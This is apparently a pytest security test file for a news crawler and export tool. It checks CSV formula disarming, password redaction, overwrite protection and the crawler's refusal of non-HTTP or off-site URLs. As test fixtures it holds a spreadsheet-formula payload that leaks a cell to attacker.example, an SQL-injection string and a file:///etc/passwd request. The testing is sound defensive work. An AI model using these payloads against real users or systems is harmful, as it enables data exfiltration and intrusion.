"""What the tool writes cannot harm whoever opens it, and what it is fed cannot steer it.

CSV cells that a spreadsheet would run as formulas are disarmed; a database password is never
shown; an export never overwrites a file unasked; any headline text round-trips exactly; a
hostile page cannot make the crawler fetch a non-HTTP(S) URL or leave the site.
"""

from __future__ import annotations

import base64
import csv
import gzip
import io
import json
import socket
import sqlite3
from html import escape
from pathlib import Path
from urllib.parse import quote

import pytest
from scrapy import Request
from scrapy.exceptions import IgnoreRequest
from scrapy.utils.test import get_crawler

from newsarchive.cli import main
from newsarchive.cli.errors import CLIError
from newsarchive.crawl.api import project_settings
from newsarchive.middlewares.boundary import SITE, SiteBoundaryMiddleware
from newsarchive.storage import Archive
from newsarchive.urls import site_origin
from newsarchive.views.export import FORMULA_START
from tests.faultserver import FaultServer, page, redirect
from tests.helpers import FAST, run_cli, run_crawl, story
from tests.sites import ARTICLE, PAGE, listing_html

PASSWORD = "s3cret-Pa55"
PG_URL = f"postgresql+psycopg://archivist:{PASSWORD}@127.0.0.1:1/news"


def export_rows(db: Path, fmt: str, *more: str) -> str:
    """The export as written, read back without newline translation (a CR must stay a CR)."""
    out = db.with_name(f"export.{fmt}")
    argv = ["export", "--db", str(db), "--format", fmt, "--output", str(out), "--force", *more]
    assert main(argv) == 0
    return out.read_bytes().decode("utf-8-sig")


@pytest.mark.parametrize("prefix", FORMULA_START)
def test_excel_csv_disarms_every_formula_prefix(db_path: Path, prefix: str) -> None:
    hostile = f'{prefix}HYPERLINK("http://attacker.example/?leak="&A1,"Perú")'
    with Archive.open(str(db_path)) as archive:
        archive.write.store(
            archive.runs.begin([]),
            [story(1, headline=hostile, teaser=hostile, author=hostile, tag=hostile)],
        )
    (row,) = csv.DictReader(io.StringIO(export_rows(db_path, "csv", "--excel"), newline=""))
    for field in ("headline", "teaser", "author", "tags"):
        assert row[field] == "'" + hostile
    (exact,) = csv.DictReader(io.StringIO(export_rows(db_path, "csv"), newline=""))
    assert exact["headline"] == hostile  # plain CSV is data for pandas or R: kept exact
    (record,) = (json.loads(line) for line in export_rows(db_path, "jsonl").splitlines())
    assert record["headline"] == hostile  # and so is JSON


@pytest.mark.parametrize("command", [["crawl", "http://127.0.0.1:1/tag/x/"], ["export", "--format", "csv"], ["db", "check"]])  # fmt: skip
@pytest.mark.parametrize(
    "url",
    [
        PG_URL,  # no driver installed, or no server listening: either way a clean error
        f"postgresql://archivist:{PASSWORD}@db.example.org:port/news",  # malformed
        f"sqlite://archivist:{PASSWORD}@//tmp/news.sqlite",  # SQLite takes no password
    ],
)
def test_database_password_never_shown(command: list[str], url: str) -> None:
    for result in (
        run_cli(*command, "--db", url),
        run_cli(*command, env={"NEWSARCHIVE_DB": url}),
    ):
        assert result.returncode == CLIError.DATABASE
        output = result.stdout + result.stderr
        assert PASSWORD not in output
        assert "Traceback" not in output
        (line,) = result.stderr.strip().splitlines()
        assert line.startswith("newsarchive: error: ")


def test_output_is_never_overwritten_without_force(db_path: Path, tmp_path: Path, cli) -> None:
    Archive.open(str(db_path)).close()
    target = tmp_path / "stories.csv"
    target.write_text("precious notes\n", encoding="utf-8")
    refused = cli("export", "--db", db_path, "--format", "csv", "--output", target)
    assert refused.returncode == CLIError.OUTPUT
    assert (
        refused.stderr.strip() == f"newsarchive: error: {target} exists (use --force to overwrite)"
    )
    assert target.read_text(encoding="utf-8") == "precious notes\n"
    # SQLite's write-ahead log and its index may stay beside the archive a reader opened.
    left = {path.name for path in tmp_path.iterdir()} - {"archive.sqlite-wal", "archive.sqlite-shm"}
    assert left == {"archive.sqlite", "stories.csv"}
    forced = cli("export", "--db", db_path, "--format", "csv", "--output", target, "--force")
    assert forced.returncode == 0
    assert target.read_text(encoding="utf-8").startswith("url,headline,")


NASTY = "Robert'); DROP TABLE stories;-- \"Perú\" 'Bolivia' \\ 100% _x_ <b>&amp; \u2028 🙂"


def test_hostile_text_round_trips_exactly_in_storage_and_exports(db_path: Path) -> None:
    text = NASTY + " \x00\x07\x1b[31m\x7f end"
    with Archive.open(str(db_path)) as archive:
        archive.write.store(archive.runs.begin([]), [story(1, headline=text, teaser=text)])
        assert next(archive.read.iter_stories())["headline"] == text
    with sqlite3.connect(db_path) as conn:
        assert {name for (name,) in conn.execute("SELECT name FROM sqlite_master")} >= {"stories"}
    (record,) = (json.loads(line) for line in export_rows(db_path, "jsonl").splitlines())
    assert record["headline"] == record["teaser"] == text


def test_hostile_headline_crawled_is_stored_exactly(faults: FaultServer, tmp_path: Path) -> None:
    # The parser decodes entities once and normalisation folds whitespace: the text has neither.
    text = "Robert'); DROP TABLE stories;-- \"Perú\" 'Bolivia' \\ 100% _x_ <b> & 🙂"
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    body = PAGE.format(tag="X", head="", nav="", articles=ARTICLE.format(url="/nasty/", headline=escaped + "\x07"))  # fmt: skip
    faults.route("/tag/x/", page(body))
    db = tmp_path / "a.sqlite"
    result = run_cli("crawl", faults.base + "/tag/x/", "--db", str(db), *FAST)
    assert result.returncode == 0, result.stderr
    with sqlite3.connect(db) as conn:
        # Control characters are dropped by normalisation (they are never news); the rest is exact.
        assert conn.execute("SELECT headline FROM stories").fetchall() == [(text,)]


def test_hostile_page_cannot_reach_other_schemes_or_hosts(
    faults: FaultServer, tmp_path: Path
) -> None:
    # Each bait, if fetched, would be a listing whose stories end up in the archive.
    bait = listing_html("X", ["bait-story"], None)
    local_file = tmp_path / "bait.html"
    local_file.write_text(bait, encoding="utf-8")
    data_url = "data:text/html," + quote(bait)
    faults.route("/bait/", page(bait))
    elsewhere = FaultServer("127.0.0.2")
    elsewhere.route("/bait/", page(bait))
    elsewhere.start()
    other_host = elsewhere.base + "/bait/"
    targets = {
        "file-link": local_file.as_uri(),
        "data-link": data_url,
        "ftp-link": "ftp://127.0.0.1/bait.html",
        "file-redirect": f"/redirect/?to={local_file.as_uri()}",
        "file-refresh": f"/refresh/?to={local_file.as_uri()}",
        "data-refresh": "/refresh/?to=" + data_url,
        "offsite-refresh": "/refresh/?to=" + other_host,
    }
    starts = []
    for name, target in targets.items():
        path = f"/tag/{name}/"
        if target.startswith("/redirect/"):
            faults.route(path + "page/2/", redirect(target.split("to=", 1)[1]))
            next_href = path + "page/2/"
        elif target.startswith("/refresh/"):
            refresh = (
                f'<meta http-equiv="refresh" content="0;url={escape(target.split("to=", 1)[1])}">'
            )
            faults.route(path + "page/2/", page(listing_html("X", [], None, head=refresh)))
            next_href = path + "page/2/"
        else:
            next_href = target
        faults.route(path, page(listing_html("X", [f"{name}-story"], next_href)))
        starts.append(faults.base + path)
    try:
        result = run_crawl(starts, tmp_path / "a.sqlite")
    finally:
        elsewhere.stop()
    assert "Traceback" not in result["log"]
    assert not elsewhere.hits("/bait/")
    with sqlite3.connect(tmp_path / "a.sqlite") as conn:
        urls = {url for (url,) in conn.execute("SELECT url FROM stories")}
    assert len(urls) == len(targets)
    assert not any("bait" in url for url in urls)
    assert not faults.hits("/bait/")


@pytest.mark.parametrize(
    "url", ["file:///etc/passwd", "data:text/html,<p>x</p>", "ftp://127.0.0.1/x", "s3://b/k"]
)
def test_only_http_can_be_requested_at_all(url: str) -> None:
    """The last line of defence, whatever code someday yields such a request."""
    crawler = get_crawler()
    with pytest.raises(IgnoreRequest):
        SiteBoundaryMiddleware.from_crawler(crawler).process_request(Request(url))
    assert crawler.stats.get_value("newsarchive/refused/not_http") == 1
    scheme = url.split(":", 1)[0]
    assert project_settings().getdict("DOWNLOAD_HANDLERS")[scheme] is None


def test_another_port_of_the_start_host_is_another_site(
    faults: FaultServer, tmp_path: Path
) -> None:
    # A redirect and a next link to another port of 127.0.0.1, each leading to a listing whose
    # stories would be archived, and a raw TCP service that would echo what it is sent.
    bait = listing_html("X", ["bait-story"], None)
    other = FaultServer()
    other.route("/bait/", page(bait))
    other.start()
    service = socket.create_server(("127.0.0.1", 0))
    service.settimeout(0.1)
    service_url = f"http://127.0.0.1:{service.getsockname()[1]}/"
    faults.route("/tag/link/", page(listing_html("X", ["link-story"], other.base + "/bait/")))
    faults.route("/tag/moved/", page(listing_html("X", ["moved-story"], "/tag/moved/page/2/")))
    faults.route("/tag/moved/page/2/", redirect(other.base + "/bait/"))
    faults.route(
        "/tag/service/", page(listing_html("X", ["service-story"], "/tag/service/page/2/"))
    )
    faults.route("/tag/service/page/2/", redirect(service_url))
    starts = [faults.base + path for path in ("/tag/link/", "/tag/moved/", "/tag/service/")]
    try:
        result = run_crawl(starts, tmp_path / "a.sqlite")
        with pytest.raises(TimeoutError):
            service.accept()  # nobody connected to it
    finally:
        other.stop()
        service.close()
    assert not other.hits("/bait/")
    assert result["stats"]["newsarchive/chain_end/offsite_next"] == 1
    assert result["stats"]["newsarchive/refused/offsite"] == 2
    with sqlite3.connect(tmp_path / "a.sqlite") as conn:
        urls = {url for (url,) in conn.execute("SELECT url FROM stories")}
    assert not any("bait" in url for url in urls) and len(urls) == 3


def test_the_boundary_compares_hosts_by_their_idna_form() -> None:
    crawler = get_crawler()
    boundary = SiteBoundaryMiddleware.from_crawler(crawler)
    start = "https://www.perú-noticias.example/tag/litio/"
    # Scrapy sends the punycode form of the host the start URL spells in Unicode.
    same = Request(start + "page/2/", meta={SITE: site_origin(start)})
    assert same.url.startswith("https://www.xn--per-noticias-")
    assert boundary.process_request(same) is None
    punycode = same.url.split("/")[2]
    for elsewhere in (f"https://{punycode}:8443/x", "https://peru-noticias.example/x"):
        with pytest.raises(IgnoreRequest):
            boundary.process_request(Request(elsewhere, meta={SITE: site_origin(start)}))
    # http and https on their default ports are one site: a move to https stays on it.
    assert site_origin("http://news.example.org/a") == site_origin("https://news.example.org:443/b")


def test_credentials_in_a_start_url_never_leave_the_url_parser(
    faults: FaultServer, tmp_path: Path
) -> None:
    faults.route("/tag/x/", page(listing_html("X", ["s1", "s2"], "/tag/x/page/2/")))
    faults.route("/tag/x/page/2/", page(listing_html("X", ["s3"], None)))
    db, log = tmp_path / "a.sqlite", tmp_path / "crawl.log"
    start = faults.base.replace("http://", f"http://archivist:{PASSWORD}@") + "/tag/x/"
    result = run_cli("crawl", start, "--db", str(db), "--log-file", str(log), *FAST)
    assert result.returncode == 0, result.stderr
    # The site got the credentials, on every page of the chain, as HTTP basic authentication.
    sent = {
        hit.headers.get("Authorization")
        for hit in faults.hits("/tag/x/") + faults.hits("/tag/x/page/2/")
    }
    assert sent == {"Basic " + base64.b64encode(f"archivist:{PASSWORD}".encode()).decode()}
    runs = run_cli("runs", "--db", str(db), "--json")
    failing = run_cli("crawl", start.replace("/tag/x/", "/tag/missing/"), "--db", str(db), *FAST)
    assert failing.returncode == CLIError.START_FAILED
    warc = b"".join(path.read_bytes() for path in (tmp_path / "warc").iterdir())
    with sqlite3.connect(db) as conn:
        stored = conn.execute("SELECT start_urls FROM crawl_runs").fetchall()
        stored += conn.execute("SELECT start_url FROM listing_walks").fetchall()
    seen = [result.stdout, result.stderr, log.read_text(), runs.stdout, failing.stderr, str(stored)]
    assert PASSWORD not in "".join(seen) and "archivist" not in "".join(seen)
    assert PASSWORD.encode() not in gzip.decompress(warc)
    assert "Authorization" not in gzip.decompress(warc).decode("latin-1")


@pytest.mark.parametrize(
    ("setting", "message"),
    [
        ("NEWSARCHIVE_MAX_PAGES=abc", "NEWSARCHIVE_MAX_PAGES must be a whole number, not 'abc'"),
        ("DOWNLOAD_TIMEOUT=abc", "DOWNLOAD_TIMEOUT must be a number, not 'abc'"),
        ("NEWSARCHIVE_WARC=maybe", "NEWSARCHIVE_WARC must be true or false, not 'maybe'"),
        ("LOG_LEVEL=NOPE", "LOG_LEVEL must be one of DEBUG, INFO, WARNING, ERROR, CRITICAL, not 'NOPE'"),
        ("NEWSARCHIVE_BATCH_SIZE=0", "NEWSARCHIVE_BATCH_SIZE must be more than 0, not '0'"),
        ("NEWSARCHIVE_MAX_PAGES=0", "NEWSARCHIVE_MAX_PAGES must be more than 0, not '0'"),
        ("DOWNLOAD_DELAY=-1", "DOWNLOAD_DELAY must be 0 or more, not '-1'"),
        ("NEWSARCHIVE_MAX_PAGE=5", "unknown setting NEWSARCHIVE_MAX_PAGE (did you mean NEWSARCHIVE_MAX_PAGES?)"),
    ],
)  # fmt: skip
def test_bad_settings_are_usage_errors_before_anything_starts(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], setting: str, message: str
) -> None:
    db = tmp_path / "a.sqlite"
    for command in (
        ["crawl", "http://127.0.0.1:1/tag/x/"],
        ["worker", "--redis", "redis://127.0.0.1:1/0"],
    ):
        assert main([*command, "--db", str(db), "-s", setting]) == CLIError.USAGE
        assert capsys.readouterr().err == f"newsarchive: error: {message}\n"
    assert not db.exists()  # nothing was created


@pytest.mark.parametrize(
    ("url", "message"),
    [
        ("http://127.0.0.1:99999/tag/x/", "not an http(s) URL: http://127.0.0.1:99999/tag/x/"),
        ("http://127.0.0.1/tag/" + "x" * 5000, "start URL longer than 2083 characters"),
    ],
)
def test_bad_start_urls_are_usage_errors(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], url: str, message: str
) -> None:
    assert main(["crawl", url, "--db", str(tmp_path / "a.sqlite")]) == CLIError.USAGE
    error = capsys.readouterr().err
    assert error.startswith(f"newsarchive: error: {message}") and error.count("\n") == 1
